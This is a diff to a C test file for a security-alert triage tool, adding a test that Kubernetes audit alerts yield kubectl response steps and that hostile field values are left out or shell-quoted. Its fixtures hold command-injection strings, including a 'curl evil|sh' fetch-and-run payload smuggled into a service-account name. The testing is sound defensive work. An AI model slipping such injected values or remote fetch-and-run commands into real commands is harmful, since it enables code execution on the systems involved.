@@ -75,7 +75,7 @@ TEST(event_generator_is_a_drill) {
         CHECK_CONTAINS(md.data, "docker ps -aq --no-trunc --filter id=69484342a56c");
         CHECK_CONTAINS(md.data, "/var/tmp/payload-60df1444.bin");
         CHECK_CONTAINS(md.data, "ld.so /proc/self/fd/N");
-        CHECK_CONTAINS(md.data, "knowledge base 2026.11");
+        CHECK_CONTAINS(md.data, "knowledge base 2026.11.1");
         CHECK_CONTAINS(md.data, "alert `60df1444-1e4a-43f1-bcaa-67f76c3b5294`");
         /* the seed reports' inventions never appear */
         CHECK_NOT_CONTAINS(md.data, "max_user_memfd");
@@ -430,6 +430,34 @@ TEST(k8s_audit_alert_says_where) {
         fb_alert_free(a);
 }
 
+/* A k8s audit alert gets the API's steps (kubectl, with validated or shell-quoted values), not
+ * the container's, and no word about shell variables it does not set. */
+TEST(k8s_audit_alert_gets_api_steps) {
+        struct fb_alert *a = NULL;
+
+        fb_alert_new(&a);
+        CHECK_EQ(triage(t_data("alerts/k8saudit-list-fields.json"), a), 0);
+        CHECK_CONTAINS(md.data, "saw a pod created with a privileged container");
+        CHECK_CONTAINS(md.data,
+                       "kubectl -n default get pods nginx-priv-7d9c7f6d8b-2xk4q -o yaml\n");
+        CHECK_CONTAINS(md.data, "kubectl auth can-i --list "
+                                "--as=system:serviceaccount:kube-system:replicaset-controller -n "
+                                "default\n");
+        CHECK_CONTAINS(md.data, "kubectl label --overwrite namespace default "
+                                "pod-security.kubernetes.io/enforce=baseline\n");
+        CHECK(!strstr(md.data, "docker ") && !strstr(md.data, "ctr ") &&
+              !strstr(md.data, "one shell session"));
+        /* hostile values: left out where a name must go, shell-quoted where any text may */
+        CHECK_EQ(triage(t_data("hostile/k8saudit-names.json"), a), 0);
+        CHECK(!strstr(md.data, "reboot)PWNED -o") && !strstr(md.data, "delete pods web"));
+        CHECK_CONTAINS(md.data, "*Some commands are left out: they need `ka.target.name` (or "
+                                "`ka.resp.name`) as an object name");
+        CHECK_CONTAINS(md.data, "kubectl auth can-i --list --as='eve'\\''; curl evil|sh PWNED; "
+                                "'\\''' -n prod\n");
+        CHECK_CONTAINS(md.data, "kubectl get rolebindings,clusterrolebindings -A -o wide\n");
+        fb_alert_free(a);
+}
+
 TEST(hostile_alerts_render_safely) {
         CHECK_INT(check_dir(t_data("hostile"), true), >=, 13);
 }
@@ -480,6 +508,7 @@ int main(void) {
         RUN(list_fields_render_as_lists);
         RUN(unsigned_64_bit_fields_render_as_numbers);
         RUN(k8s_audit_alert_says_where);
+        RUN(k8s_audit_alert_gets_api_steps);
         RUN(hostile_alerts_render_safely);
         RUN(corpus_reports_safe_and_consistent);
         RUN(safety_checker_catches_breakage);
